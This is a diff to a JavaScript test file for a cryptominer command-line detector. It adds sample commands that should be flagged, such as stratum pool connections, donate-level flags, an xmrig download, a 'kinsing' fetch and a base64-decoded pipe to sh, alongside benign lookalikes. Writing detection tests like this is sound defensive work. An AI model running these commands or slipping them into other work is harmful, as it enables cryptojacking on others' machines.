@@ -19,6 +19,12 @@ const MINES = [
   `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
   'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
   'curl -sL https://example.com/kinsing -o /tmp/k',
+  'sh -c ls|./a -o stratum+tcp://pool.example.com:3333',
+  '/tmp/ps -o stratum+tcp://pool.example.com:3333 -u x',
+  'ps -o stratum+tcp://pool.example.com:3333 -u x',
+  '/opt/host --donate-level=1 --cpu-max-threads-hint=70',
+  'file --donate-level 1',
+  'sh -c which a || ls -a rx/0',
 ];
 const DOES_NOT = [
   'ls',
@@ -35,6 +41,12 @@ const DOES_NOT = [
   'curl -o pool.json https://example.com/pools',
   `echo ${WALLET}`,
   'curl notnanopool.org:443',
+  "sh -c ps aux|grep -c 'stratum+tcp://pool.example.com:3333'",
+  'grep -o stratum+tcp://pool.example.com:3333 /app/config.json',
+  'grep -rE stratum+tcp://|--donate-level /app',
+  'pkill -f donate-level|stratum+tcp://',
+  'which nc',
+  'strings /tmp/a',
 ];
 
 describe('a miner in a command line', () => {
